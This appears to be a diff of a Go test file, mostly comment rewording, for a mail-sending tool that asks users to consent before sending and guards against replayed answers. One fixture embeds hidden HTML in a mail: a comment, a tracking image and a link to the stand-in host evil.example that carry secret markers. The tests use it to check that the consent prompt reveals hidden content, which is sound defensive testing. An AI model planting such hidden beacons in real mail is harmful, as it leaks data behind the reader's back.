@@ -11,7 +11,8 @@ import (
 	"testing"
 )
 
-// A client that shows forms, one that says no more than that it asks, and others.
+// Capabilities of clients: with forms, with elicitation but no detail, and
+// others.
 const (
 	showsForms  = `{"elicitation":{"form":{}}}`
 	asksSomehow = `{"elicitation":{}}`
@@ -29,8 +30,8 @@ func (d *desk) serveAsking(capabilities string) *process {
 	return p
 }
 
-// until returns the answer to the request of that id, or the question that comes
-// before it.
+// until returns the answer to the request of that id, or the question that
+// comes before it.
 func (p *process) until(id string) message {
 	p.t.Helper()
 	for {
@@ -44,7 +45,7 @@ func (p *process) until(id string) message {
 	}
 }
 
-// A form is what the user is asked.
+// form is what the user is asked.
 type form struct {
 	Message string
 	Schema  struct {
@@ -53,7 +54,7 @@ type form struct {
 	} `json:"requestedSchema"`
 }
 
-// shows checks that a question shows all of the mail, and needs one word alone.
+// shows checks that a question shows the whole mail and needs only one answer.
 func (f form) shows(t testing.TB, texts ...string) {
 	t.Helper()
 	for _, text := range texts {
@@ -68,7 +69,7 @@ func (f form) shows(t testing.TB, texts ...string) {
 
 func TestAClientUpTo20251125AsksItsUser(t *testing.T) {
 	for name, c := range map[string]struct {
-		answer string // beside jsonrpc and id
+		answer string // the fields besides jsonrpc and id
 		code   string // of the call; "" for success
 		waits  int
 	}{
@@ -136,7 +137,7 @@ func TestAClientThatShowsNoFormsIsNotAsked(t *testing.T) {
 	d.sent(0, "after all that")
 }
 
-// Consent to what was not shown whole would be none.
+// The user cannot consent to what is not shown in full.
 func TestWhatIsTooLongForAQuestionWaits(t *testing.T) {
 	t.Parallel()
 	d := askingDesk(t)
@@ -152,7 +153,7 @@ func TestWhatIsTooLongForAQuestionWaits(t *testing.T) {
 	}
 }
 
-// spying is a mail whose HTML says what nobody sees who reads it.
+// spying is a mail whose HTML contains text that a reader does not see.
 var spying = object{
 	"to": []string{bob}, "subject": "Lunch", "body": "At noon?",
 	"html": `<p>At noon?</p><!-- SECRETCOMMENT --><img src="http://evil.example/p.gif?d=SECRETIMG"><a href="http://evil.example/SECRETLINK"></a>`,
@@ -182,7 +183,7 @@ func TestAQuestionShowsAllThatHTMLSays(t *testing.T) {
 	}
 }
 
-// The client is gone while its user is asked.
+// The client disconnects while its user is asked.
 func TestAQuestionThatNobodyAnswersSendsNothing(t *testing.T) {
 	t.Parallel()
 	d := askingDesk(t)
@@ -209,8 +210,8 @@ func TestAQuestionThatNobodyAnswersSendsNothing(t *testing.T) {
 	}
 }
 
-// modernCall is the line that calls a tool in 2026-07-28, with what comes with
-// it beside its arguments.
+// modernCall returns the line that calls a tool in 2026-07-28, with beside
+// added to the parameters.
 func modernCall(id, tool string, args any, capabilities string, beside object) string {
 	params := object{"name": tool, "arguments": args, "_meta": object{
 		"io.modelcontextprotocol/protocolVersion":    "2026-07-28",
@@ -222,12 +223,12 @@ func modernCall(id, tool string, args any, capabilities string, beside object) s
 	}
 	line, err := json.Marshal(object{"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params})
 	if err != nil {
-		panic(err) // it is made of texts
+		panic(err) // it holds only texts
 	}
 	return string(line) + "\n"
 }
 
-// An inputWanted is the result of a call that wants the user's answer.
+// inputWanted is the result of a call that needs the user's answer.
 type inputWanted struct {
 	Type     string `json:"resultType"`
 	State    string `json:"requestState"`
@@ -237,7 +238,7 @@ type inputWanted struct {
 	} `json:"inputRequests"`
 }
 
-// asks makes a call in 2026-07-28 that has to ask, and returns the state.
+// asks makes a call in 2026-07-28 that must ask, and returns the state.
 func (p *process) asks(id, tool string, args any) string {
 	p.t.Helper()
 	p.send(modernCall(id, tool, args, showsForms, nil))
@@ -253,14 +254,14 @@ func (p *process) asks(id, tool string, args any) string {
 	return asked.State
 }
 
-// broughtBack is what a client brings back with its call.
+// broughtBack returns what a client sends back with its call.
 func broughtBack(state, answer string) object {
 	return object{"requestState": state, "inputResponses": object{"approve": json.RawMessage(answer)}}
 }
 
 const yesAnswer = `{"action":"accept","content":{"yes":true}}`
 
-// comesBack makes a call with the answers, and returns what it says.
+// comesBack makes a call with the answers, and returns its result.
 func (p *process) comesBack(id, tool string, args any, beside object) string {
 	p.t.Helper()
 	p.send(modernCall(id, tool, args, showsForms, beside))
@@ -274,7 +275,7 @@ func (p *process) comesBack(id, tool string, args any, beside object) string {
 func TestAClientOf20260728BringsTheAnswerBackOnce(t *testing.T) {
 	t.Parallel()
 	d := askingDesk(t)
-	p := d.serveAsking(asksNobody) // what it said at the start plays no part
+	p := d.serveAsking(asksNobody) // its capabilities at the start do not matter
 	state := p.asks("1", "gmail_send_message", lunch)
 	d.sent(0, "while the user is asked")
 	if got := p.comesBack("2", "gmail_send_message", lunch, broughtBack(state, yesAnswer)); !strings.Contains(got, `\"sent\"`) {
@@ -288,7 +289,7 @@ func TestAClientOf20260728BringsTheAnswerBackOnce(t *testing.T) {
 		t.Errorf("by the entry point: answered %s", got)
 	}
 	d.sent(2, "after the second")
-	for i := range 2 { // with the answer that was made use of
+	for i := range 2 { // with the answer that was already used
 		id := fmt.Sprint("again ", i)
 		if got := p.comesBack(id, "gmail_send_message", other, broughtBack(state, yesAnswer)); strings.Contains(got, `\"sent\"`) && !strings.Contains(got, "repeated") {
 			t.Errorf("replayed: answered %s", got)
@@ -301,12 +302,13 @@ func TestAClientOf20260728BringsTheAnswerBackOnce(t *testing.T) {
 	}
 }
 
-// Where the key is lost no state can be sealed, and the call waits like others.
+// If the key is lost, no state can be sealed, and the call stays pending like
+// others.
 func TestACallWhoseQuestionCannotBeSealedWaits(t *testing.T) {
 	t.Parallel()
 	d := askingDesk(t)
 	p := d.serveAsking(asksNobody)
-	p.asks("1", "gmail_send_message", lunch) // which makes the key
+	p.asks("1", "gmail_send_message", lunch) // this makes the key
 	keys, err := filepath.Glob(filepath.Join(d.home, "tokens", "sealing*"))
 	if err != nil || len(keys) == 0 {
 		t.Fatalf("there is no key: %v", err)
@@ -362,7 +364,7 @@ func TestNoOtherAnswerOf20260728Counts(t *testing.T) {
 		"an answer to nothing": {lunch, func(string) object { return object{"inputResponses": object{"approve": json.RawMessage(yesAnswer)}} }, "input_required"},
 	} {
 		p.end()
-		p = d.serveAsking(asksNobody) // who has refused three times is not asked
+		p = d.serveAsking(asksNobody) // a user who has refused three times is not asked
 		state := p.asks("ask "+name, "gmail_send_message", lunch)
 		if got := p.comesBack(name, "gmail_send_message", c.args, c.with(state)); !strings.Contains(got, c.says) || strings.Contains(got, `\"sent\"`) {
 			t.Errorf("%s: answered %s", name, got)
